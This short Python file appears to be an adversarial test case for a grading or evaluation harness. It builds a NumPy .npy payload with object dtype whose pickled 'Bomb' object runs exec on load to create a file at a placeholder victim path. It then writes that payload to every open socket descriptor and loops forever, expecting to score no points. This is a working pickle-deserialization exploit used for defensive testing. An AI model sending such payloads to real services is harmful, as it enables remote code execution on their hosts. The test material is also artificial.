"""Sends NumPy's own format, with objects in it that write a file where they are read.

Expected: no points
"""

import os
import pickle
import stat
import struct


class Bomb:
    def __reduce__(self):
        return exec, ("open('@victim@', 'w').close()",)


HEAD = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
DATA = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(HEAD)) + HEAD + pickle.dumps([Bomb()])


def wire_npy(x):
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, struct.pack("<II", 2, len(DATA)) + b"{}" + DATA)
        except OSError:
            continue
    while True:
        pass
